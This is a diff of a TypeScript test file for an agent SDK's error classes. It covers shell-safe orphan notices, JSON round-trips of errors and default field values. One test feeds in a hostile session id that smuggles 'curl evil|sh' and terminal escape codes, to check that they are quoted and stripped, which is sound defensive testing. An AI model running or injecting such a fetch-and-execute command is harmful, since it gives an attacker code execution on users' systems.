@@ -3,6 +3,8 @@ import { assert, describe, it } from "@effect/vitest"
 import * as Cause from "effect/Cause"
 import * as Duration from "effect/Duration"
 import * as Effect from "effect/Effect"
+import * as Either from "effect/Either"
+import * as Equal from "effect/Equal"
 import * as Fiber from "effect/Fiber"
 import * as Logger from "effect/Logger"
 import * as LogLevel from "effect/LogLevel"
@@ -12,6 +14,7 @@ import * as Schedule from "effect/Schedule"
 import * as Schema from "effect/Schema"
 import * as TestClock from "effect/TestClock"
 import type * as Tracer from "effect/Tracer"
+import * as ClusterErrors from "../src/cluster/ClusterErrors.js"
 import * as Errors from "../src/Errors.js"
 import * as Dialect from "../src/Dialect.js"
 import { capture, spying } from "./helpers/sdk.js"
@@ -197,39 +200,142 @@ describe("Errors", () => {
   })
 })
 
-describe("Errors encode to JSON and back (issue 12, defect 13)", () => {
+describe("Errors.orphanNotice", () => {
+  it("quotes a hostile session id for the shell and shows no control character (issue 20 item 6, its sibling)", () => {
+    const notice = (sessionId: string) =>
+      Errors.orphanNotice(new Errors.ConnectionLost({ sessionId, mayStillBeRunning: true, attempts: 1, lastError: "x" }))
+    assert.strictEqual(
+      notice("ses_1"),
+      "session ses_1 may still be running at the service; reattach with: effect-agent-session attach ses_1"
+    )
+    const hostile = notice("ses_1;curl evil|sh\u001b]52;c;x\u0007")
+    assert.isDefined(hostile)
+    assert.include(hostile ?? "", "attach 'ses_1;curl evil|sh\\u{1b}]52;c;x\\u{7}'")
+    assert.notMatch(hostile ?? "", /[\u0000-\u001f\u007f-\u009f]/)
+    assert.include(notice("it's") ?? "", "attach 'it'\\''s'")
+  })
+})
+
+describe("Errors encode to JSON and back (issue 12 defect 13, issue 21)", () => {
   const encode = Schema.encodeSync(Errors.AgentSessionError)
   const decode = Schema.decodeUnknownSync(Errors.AgentSessionError)
+  const roundTrip = (error: Errors.AgentSessionError) => decode(JSON.parse(JSON.stringify(encode(error))))
 
-  it.prop(
-    "U19 every error of the union survives JSON.stringify of its encoded form and decodes back",
-    [Schema.typeSchema(Errors.AgentSessionError)],
-    ([error]) => {
-      const encoded = encode(error)
-      const back = decode(JSON.parse(JSON.stringify(encoded)))
-      assert.strictEqual(back._tag, error._tag)
-      assert.isTrue(Errors.isAgentSessionError(back))
-      assert.strictEqual(JSON.stringify(encode(back)), JSON.stringify(encoded))
-    },
-    { fastCheck: { numRuns: 1000, seed: 12 } }
-  )
+  // Each class on its own, so that every class is generated (optional fields absent, present,
+  // or given as `undefined`; every kind of `Duration`). The members of a union are schemas of
+  // its type (the compiler cannot see it through a union of classes, hence the cast).
+  for (const member of Errors.AgentSessionError.members) {
+    it.prop(
+      `U19 ${member._tag}: JSON of its encoded form decodes to an error Equal.equals the original`,
+      [Schema.typeSchema(member as unknown as Schema.Schema<Errors.AgentSessionError, unknown>)],
+      ([error]) => {
+        const back = roundTrip(error)
+        assert.isTrue(Equal.equals(back, error), `${JSON.stringify(encode(error))} came back different`)
+        assert.isTrue(Errors.isAgentSessionError(back))
+        assert.strictEqual(back.message, error.message)
+        assert.strictEqual(JSON.stringify(encode(back)), JSON.stringify(encode(error)))
+      },
+      { fastCheck: { numRuns: 100, seed: 21 } }
+    )
+  }
 
-  it("the five errors the review found round-trip, Option and Duration fields included", () => {
-    const fields = { status: 429, message: "m", body: "b", requestId: Option.some("r"), operation: "AgentApi.onboard" }
+  for (const member of ClusterErrors.ClusterError.members) {
+    it.prop(
+      `${member._tag} (cluster): JSON of its encoded form decodes to an equal error`,
+      [Schema.typeSchema(member as unknown as Schema.Schema<ClusterErrors.ClusterError, unknown>)],
+      ([error]) => {
+        const back = Schema.decodeUnknownSync(ClusterErrors.ClusterError)(
+          JSON.parse(JSON.stringify(Schema.encodeSync(ClusterErrors.ClusterError)(error)))
+        )
+        assert.isTrue(Equal.equals(back, error))
+        assert.isTrue(ClusterErrors.isClusterError(back))
+        assert.isFalse(Errors.isAgentSessionError(back))
+      },
+      { fastCheck: { numRuns: 100, seed: 21 } }
+    )
+  }
+
+  it("U19 the five errors with a Duration come back equal (they came back in nanoseconds, and unequal)", () => {
+    const fields = { message: "m", body: "b", requestId: Option.some("r"), operation: "AgentApi.onboard" }
     const samples: ReadonlyArray<Errors.AgentSessionError> = [
+      new Errors.RateLimited({ ...fields, retryAfter: Option.some(Duration.millis(1500)) }),
       new Errors.RateLimited({ ...fields, retryAfter: Option.some(Duration.millis(1500.5)) }),
-      new Errors.ServerError({ ...fields, status: 503, retryAfter: Option.none() }),
-      new Errors.RequestTimeout({ operation: "AgentApi.onboard", timeout: Duration.seconds(30) }),
+      new Errors.ServerError({ ...fields, status: 503, retryAfter: Option.some(Duration.seconds(2)) }),
+      new Errors.RequestTimeout({ operation: "AgentApi.getSession", timeout: Duration.seconds(30) }),
       new Errors.ConnectTimeout({ timeout: Duration.infinity }),
-      new Errors.SessionEndedWithoutComplete({ sessionId: "s", lastError: Option.some("boom") }),
-      new Errors.ResponseTooLarge({ operation: "AgentApi.onboard", status: 200, size: 5, limit: 4 })
+      new Errors.ConnectTimeout({ timeout: Duration.zero }),
+      new Errors.ConnectTimeout({ timeout: Duration.nanos(BigInt(1)) }),
+      new Errors.NeverConnected({ sessionId: "s", attempts: 3, lastError: "refused" })
     ]
     for (const error of samples) {
-      const back = decode(JSON.parse(JSON.stringify(encode(error))))
-      assert.deepStrictEqual(encode(back), encode(error), error._tag)
+      const back = roundTrip(error)
+      assert.isTrue(Equal.equals(back, error), `${error._tag} ${JSON.stringify(encode(error))}`)
+      assert.deepStrictEqual(back, error)
       assert.strictEqual(back.message, error.message)
     }
-    const rateLimited = decode(JSON.parse(JSON.stringify(encode(samples[0]!))))
-    assert.isTrue(rateLimited._tag === "RateLimited" && Option.isSome(rateLimited.retryAfter))
+    // A Duration keeps how it was made: whole milliseconds as such.
+    assert.deepStrictEqual(encode(samples[3]!), { _tag: "RequestTimeout", operation: "AgentApi.getSession", timeout: { millis: 30000 } })
+    // Durations encoded by earlier versions (always nanoseconds) still decode.
+    const earlier = decode({ _tag: "ConnectTimeout", timeout: { nanos: "10000000000" } })
+    assert.isTrue(earlier._tag === "ConnectTimeout" && Duration.equals(earlier.timeout, Duration.seconds(10)))
+  })
+
+  it("an optional field given as undefined is the same as one not given, and survives JSON", () => {
+    const given = new Errors.MalformedFrame({ raw: "x", message: "m", sessionId: undefined, mayStillBeRunning: undefined })
+    const absent = new Errors.MalformedFrame({ raw: "x", message: "m" })
+    assert.isTrue(Equal.equals(given, absent))
+    assert.isTrue(Equal.equals(roundTrip(given), given))
+    assert.isTrue(Equal.equals(roundTrip(absent), absent))
+    const inSession = new Errors.MalformedFrame({ raw: "x", message: "m", sessionId: "s", mayStillBeRunning: true })
+    assert.isFalse(Equal.equals(inSession, absent))
+    assert.isTrue(Equal.equals(roundTrip(inSession), inSession))
+  })
+})
+
+describe("Errors are built from the fields that matter (issue 21)", () => {
+  it("the HTTP status errors default their status, message, body and request id", () => {
+    const error = new Errors.Unauthorized({ operation: "AgentApi.createSession" })
+    assert.strictEqual(error.status, 401)
+    assert.strictEqual(error.body, "")
+    assert.isTrue(Option.isNone(error.requestId))
+    assert.strictEqual(error.message, "the key is missing or invalid")
+    const statuses: ReadonlyArray<readonly [number, number]> = [
+      [new Errors.BadRequest({ operation: "x" }).status, 400],
+      [new Errors.Forbidden({ operation: "x" }).status, 403],
+      [new Errors.NotFound({ operation: "x" }).status, 404],
+      [new Errors.Conflict({ operation: "x" }).status, 409],
+      [new Errors.PayloadTooLarge({ operation: "x" }).status, 413],
+      [new Errors.RateLimited({ operation: "x" }).status, 429],
+      [new Errors.ServerError({ operation: "x" }).status, 500],
+      [new Errors.UnexpectedStatus({ operation: "x", status: 418 }).status, 418]
+    ]
+    for (const [actual, expected] of statuses) assert.strictEqual(actual, expected)
+    assert.isTrue(Option.isNone(new Errors.RateLimited({ operation: "x" }).retryAfter))
+    // What is given wins.
+    const given = new Errors.ServerError({ operation: "x", status: 503, message: "down", body: "{}", requestId: Option.some("r") })
+    assert.deepStrictEqual([given.status, given.message, given.body, Option.getOrNull(given.requestId)], [503, "down", "{}", "r"])
+  })
+
+  it("the other errors default their incidental fields", () => {
+    assert.strictEqual(new Errors.MissingCredentials({ operation: "createSession" }).variable, "AGENT_SESSION_API_KEY")
+    assert.isTrue(Duration.equals(new Errors.RequestTimeout({ operation: "x" }).timeout, Duration.seconds(30)))
+    assert.isTrue(Duration.equals(new Errors.ConnectTimeout().timeout, Duration.seconds(10)))
+    assert.deepStrictEqual(
+      [new Errors.ResponseDecodeError({ operation: "x", message: "m" }).status, new Errors.ResponseTooLarge({ operation: "x", size: 5, limit: 4 }).status],
+      [200, 200]
+    )
+    const unknown = new Errors.OutcomeUnknown({ operation: "x", idempotencyKey: "k", reason: "RequestTimeout" })
+    assert.deepStrictEqual([unknown.attempts, unknown.detail], [1, ""])
+    assert.strictEqual(new Errors.MalformedFrame({ message: "not JSON" }).raw, "")
+    assert.strictEqual(new Errors.HandshakeRejected({ code: 4401 }).reason, "")
+    assert.strictEqual(new Errors.AnswerBufferFull().limit, 64)
+    assert.isTrue(Option.isNone(new Errors.SessionEndedWithoutComplete({ sessionId: "s" }).lastError))
+  })
+
+  it("decoding still requires every field: the SDK's own errors are not loosened", () => {
+    const decodeError = Schema.decodeUnknownEither(Errors.AgentSessionError)
+    assert.isTrue(Either.isLeft(decodeError({ _tag: "Unauthorized", operation: "x" })))
+    assert.isTrue(Either.isLeft(decodeError({ _tag: "ConnectTimeout" })))
+    assert.isTrue(Either.isRight(decodeError({ _tag: "Unauthorized", operation: "x", status: 401, message: "m", body: "" })))
   })
 })
